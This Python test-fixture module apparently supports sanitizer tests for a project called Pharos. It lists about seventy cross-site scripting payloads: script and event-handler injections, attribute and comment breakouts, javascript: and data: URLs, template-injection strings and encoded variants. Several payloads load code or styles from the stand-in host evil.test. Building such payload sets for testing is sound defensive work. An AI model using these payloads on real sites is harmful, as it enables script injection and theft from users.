"""Words that want to be run: one of each kind, written for these tests. None may do anything."""

from __future__ import annotations

import json
import os
from pathlib import Path

PAYLOADS = (
    # Elements that run by themselves.
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<ScRiPt >alert`1`</sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<img/src=x/onerror=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>go</text></a></svg>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>more</details>",
    "<marquee onstart=alert(1)>run</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/>",
    "<template><img src=x onerror=alert(1)></template>",
    "<x-a onclick=alert(1)>press</x-a>",
    # Out of an attribute, out of a text field, out of a comment, out of a script.
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onerror=alert(1) x=`",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    "\\';alert(1);//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% load x %}{{ request.user }}",
    # Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[press](javascript:alert(1))",
    'https://evil.test/"onmouseover="alert(1)',
    "<a href='javascript:alert(1)'>press</a>",
    "<form action=javascript:alert(1)><button>send</button></form>",
    # Things that a page's own script would act on.
    '<div hx-get="/desk/" hx-trigger="load" hx-on:htmx:load="alert(1)">x</div>',
    "<p data-hx-on-load=alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
# A folder of data that is not part of Pharos: then all of its words are tried besides.
DATA = os.environ.get("PHAROS_DATA", "")


def payloads() -> list[str]:
    """Return the words; where PHAROS_DATA names a folder, those in it too."""
    if not DATA:
        return list(PAYLOADS)
    # Some of them hold other ends of lines than this one.
    lines = (Path(DATA) / "security" / "xss_dev.jsonl").read_text().split("\n")
    return [*PAYLOADS, *(json.loads(line)["payload"] for line in lines if line)]


def batches(words: list[str], most: int) -> list[str]:
    """Return them in texts of so many characters at most, each payload in a line of its own."""
    found: list[list[str]] = [[]]
    for one in words:
        if sum(map(len, found[-1])) + len(found[-1]) + len(one) > most:
            found.append([])
        found[-1].append(one)
    return ["\n".join(["How do I use these?", *batch]) for batch in found]
